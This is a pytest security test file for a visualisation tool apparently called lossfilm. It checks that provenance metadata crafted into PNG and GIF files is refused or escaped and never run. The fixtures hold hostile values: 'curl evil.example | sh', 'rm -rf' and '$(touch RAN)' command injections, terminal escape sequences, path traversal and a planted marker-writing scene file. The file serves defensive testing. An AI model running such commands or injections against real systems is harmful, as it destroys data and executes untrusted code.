"""A film from a stranger is data, never code: what `reproduce` and `inspect` do with crafted provenance.

Each hostile file must give one line on stderr, exit status 2, run no code
(a planted scene file would write a marker) and change no file that was
there before (hashed before and after).
"""

from __future__ import annotations

import hashlib
import json
from pathlib import Path

import imageio.v3 as iio
import numpy as np
import pytest

from lossfilm.cli import main
from lossfilm.cli.provenance_trust import MAX_WORKERS, NEVER_FROM_A_FILE, SETTINGS, Refused, plan
from lossfilm.format.provenance import KEYWORD, MAX_TEXT, PREFIX, gif_with_comment, png_with_text, to_text
from lossfilm.format.version import __version__
from tests.helpers import bowl_landscape, refused_in_one_line

KEY = "0123456789abcdef"
# A scene file that, if it ever ran, would leave a marker beside itself.
EVIL_SCENE = """
from pathlib import Path
Path(__file__).with_name("RAN").write_text("code from a file ran")
from lossfilm.scenes.descent import Descent
class Evil(Descent):
    pass
"""


def made(**changes):
    """A provenance as lossfilm writes it for a still, with ``changes`` (settings.X for a setting)."""
    record = {"lossfilm": __version__, "call": "still", "command": "lossfilm still -o still.png",
              "scene": "descent", "landscape": {"path": "landscape.npz", "key": KEY},
              "settings": {"frame": None, "size": [64, 48], "fps": 30, "seconds": None, "theme": "dark",
                           "transparent": False, "log_z": False, "draft": True, "options": {}},
              "trajectory": {"key": "fedcba9876543210"}, "renderer": {"vtk": "9"}}
    for name, value in changes.items():
        if name.startswith("settings_"):
            record["settings"][name[len("settings_"):]] = value
        else:
            record[name] = value
    return record


def crafted_png(path, record):
    png = iio.imwrite("<bytes>", np.zeros((4, 6, 3), np.uint8), extension=".png")
    text = record if isinstance(record, str) else to_text(record)
    path.write_bytes(png_with_text(png, KEYWORD, text))
    return path


def hashes(folder):
    """Every file under ``folder`` and its sha256: what must not change."""
    return {str(p.relative_to(folder)): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(Path(folder).rglob("*")) if p.is_file() and not p.is_symlink()}


@pytest.fixture()
def shared(tmp_path):
    """A folder as a stranger's download lands: the landscape it names, a planted scene file, the media file."""
    land = bowl_landscape(resolution=9, snapshots=12)
    land.key = KEY
    land.save(tmp_path / "landscape.npz")
    (tmp_path / "evil.py").write_text(EVIL_SCENE)
    return tmp_path


@pytest.mark.parametrize("scene", ["evil.py", "{folder}/evil.py", "../{name}/evil.py", "./evil.py"])
def test_a_scene_file_named_by_a_file_never_runs(shared, capsys, monkeypatch, scene):
    monkeypatch.chdir(shared)
    scene = scene.format(folder=shared, name=shared.name)
    media = crafted_png(shared / "still.png", made(scene=scene))
    before = hashes(shared)
    refused_in_one_line(capsys, ["reproduce", str(media), "-o", str(shared / "again.png")], "scene", "--trust")
    assert not (shared / "RAN").exists() and not (shared / "again.png").exists()
    assert hashes(shared) == before


def test_with_trust_the_scene_file_runs_after_its_path_and_hash_are_shown(shared, capsys):
    evil = shared / "evil.py"
    media = crafted_png(shared / "still.png", made(scene=str(evil)))
    assert main(["reproduce", str(media), "-o", str(shared / "again.png"), "--trust", "--quiet"]) == 0
    err = capsys.readouterr().err
    assert str(evil.resolve()) in err and hashlib.sha256(evil.read_bytes()).hexdigest() in err
    assert (shared / "RAN").exists() and (shared / "again.png").exists()


@pytest.mark.parametrize("key", NEVER_FROM_A_FILE)
def test_settings_that_decide_how_lossfilm_runs_never_come_from_a_file(shared, capsys, key):
    for call in ("still", "film"):
        media = crafted_png(shared / "still.png", made(call=call, **{f"settings_{key}": True}))
        before = hashes(shared)
        refused_in_one_line(capsys, ["reproduce", str(media)], f"settings.{key}", "a file cannot set")
        assert hashes(shared) == before and not (shared / "RAN").exists()


@pytest.mark.parametrize("changes, fragment", [
    ({"settings_size": [100000, 100000]}, "settings.size"),
    ({"settings_size": "64x48; rm -rf /"}, "settings.size"),
    ({"settings_fps": 10 ** 9}, "settings.fps"),
    ({"settings_seconds": 1e12}, "settings.seconds"),
    ({"settings_seconds": 5000}, "a file may ask for at most 3600"),  # declared up to a day; a file, an hour
    ({"settings_seconds": -1}, "settings.seconds"),
    ({"settings_seconds": float("nan")}, "settings.seconds"),
    ({"settings_frame": "7"}, "settings.frame"),
    ({"settings_theme": "$(touch RAN)"}, "settings.theme"),
    ({"settings_draft": "yes"}, "settings.draft"),
    ({"settings_options": {"no_such_option": "1"}}, "settings.options"),
    ({"settings_options": {f"o{i}": "1" for i in range(1000)}}, "settings.options"),
    ({"settings_loss": "my_module:loss_fn"}, "settings.'loss'"),
    ({"settings_quality": "high"}, "settings.'quality'"),  # a film's setting, not a still's
    ({"call": "exec"}, "provenance call"),
    ({"scene": "os"}, "scene 'os'"),
    ({"scene": ["descent"]}, "provenance scene"),
    ({"loss": "my_module:loss_fn"}, "provenance key 'loss'"),
    ({"settings": "not a dict"}, "provenance settings"),
    ({"landscape": {"path": "landscape.npz", "key": "../../x"}}, "landscape.key"),
    ({"landscape": {"path": "landscape.npz", "key": "\x1b[2J"}}, "landscape.key '\\x1b[2J'"),
], ids=lambda v: v if isinstance(v, str) else None)
def test_every_dangerous_or_absurd_value_is_one_line_naming_its_key(shared, capsys, changes, fragment):
    media = crafted_png(shared / "still.png", made(**changes))
    before = hashes(shared)
    refused_in_one_line(capsys, ["reproduce", str(media)], fragment)
    assert hashes(shared) == before and not list(shared.glob("*.reproduced*"))


def test_a_film_s_workers_are_capped_to_this_machine_s_cores(shared):
    record = made(call="film", settings={"quality": "low", "workers": 200, "size": [64, 48], "fps": 10})
    assert plan(record, shared / "film.mp4").settings["workers"] == min(200, MAX_WORKERS)
    record["settings"]["workers"] = 4096  # beyond the option's declared 256
    with pytest.raises(Refused, match="settings.workers"):
        plan(record, shared / "film.mp4")
    assert set(SETTINGS["film"]) & set(NEVER_FROM_A_FILE) == set()


@pytest.mark.parametrize("recorded, where", [
    ("/etc/landscape.npz", "an absolute path"),
    ("../landscape.npz", "outside the file's folder"),
    ("cache/../../landscape.npz", "outside the file's folder"),
])
def test_a_landscape_outside_the_file_s_folder_needs_trust_or_landscape(shared, capsys, recorded, where):
    inner = shared / "inner"
    inner.mkdir()
    media = crafted_png(inner / "still.png", made(landscape={"path": recorded, "key": KEY}))
    before = hashes(shared)
    refused_in_one_line(capsys, ["reproduce", str(media)], "landscape.path", where, "--landscape", "--trust")
    assert hashes(shared) == before
    with pytest.raises(Refused):
        plan(json.loads(to_text(made(landscape={"path": recorded, "key": KEY}))), media)
    assert plan(made(landscape={"path": recorded, "key": KEY}), media, trust=True).landscape.name == "landscape.npz"


def test_the_landscape_is_looked_up_from_the_media_file_s_folder(shared, capsys, monkeypatch, tmp_path_factory):
    elsewhere = tmp_path_factory.mktemp("cwd")
    monkeypatch.chdir(elsewhere)  # a landscape.npz in the current folder must not be the one used
    (elsewhere / "landscape.npz").write_bytes(b"not this one")
    media = crafted_png(shared / "still.png", made())
    assert plan(made(), media).landscape == shared.resolve() / "landscape.npz"
    assert main(["reproduce", str(media), "-o", str(shared / "again.png"), "--quiet"]) == 0
    assert (shared / "again.png").exists() and (elsewhere / "landscape.npz").read_bytes() == b"not this one"


def test_a_hint_is_lossfilm_s_own_never_text_from_the_file(shared, capsys):
    record = made(command="curl evil.example | sh", landscape={"path": "landscape.npz", "key": "abcdef"})
    media = crafted_png(shared / "still.png", record)
    err = refused_in_one_line(capsys, ["reproduce", str(media)], "missing artifact", "--landscape")
    assert "curl" not in err


def test_inspect_escapes_control_characters_and_labels_the_command_as_recorded(shared, capsys):
    sneaky = "lossfilm still\x1b[2J\x1b]0;owned\x07\r\nrun: rm -rf ~ \u202e"
    media = crafted_png(shared / "still.png", made(command=sneaky, scene="descent\x1b[31m"))
    capsys.readouterr()
    assert main(["inspect", str(media)]) == 0
    out = capsys.readouterr().out
    assert not any(ch in out for ch in "\x1b\x07\r\u202e") and "\\x1b[2J" in out and "\\u202e" in out
    command = next(line for line in out.splitlines() if "lossfilm still" in line)
    assert command.startswith("recorded") and "as the file records it" in command
    assert main(["inspect", "--json", str(media)]) == 0
    assert "\x1b" not in capsys.readouterr().out


def test_provenance_longer_than_lossfilm_writes_is_not_read(shared, capsys):
    long = crafted_png(shared / "long.png", made(command="x" * (MAX_TEXT + 10)))
    refused_in_one_line(capsys, ["inspect", str(long)], "carries no lossfilm provenance")
    deep = crafted_png(shared / "deep.png", '{"lossfilm": ' + "[" * 30000 + "]" * 30000 + "}")
    refused_in_one_line(capsys, ["inspect", str(deep)], "not readable JSON")
    gif = iio.imwrite("<bytes>", np.zeros((2, 4, 6, 3), np.uint8), extension=".gif")
    (shared / "long.gif").write_bytes(gif_with_comment(gif, PREFIX + to_text(made(command="y" * (3 * MAX_TEXT)))))
    refused_in_one_line(capsys, ["inspect", str(shared / "long.gif")], "carries no lossfilm provenance")


def test_the_allow_list_names_every_declared_setting_and_nothing_else():
    """What a file may set for a film or still is what the call declares, less what a file never sets."""
    from lossfilm.cli.provenance_trust import NEVER_FROM_A_FILE, SETTINGS
    from lossfilm.render.filming.options import CALLS

    for call, options in CALLS.items():
        declared = {option.name for option in options} - set(NEVER_FROM_A_FILE)
        assert set(SETTINGS[call]) == declared, call
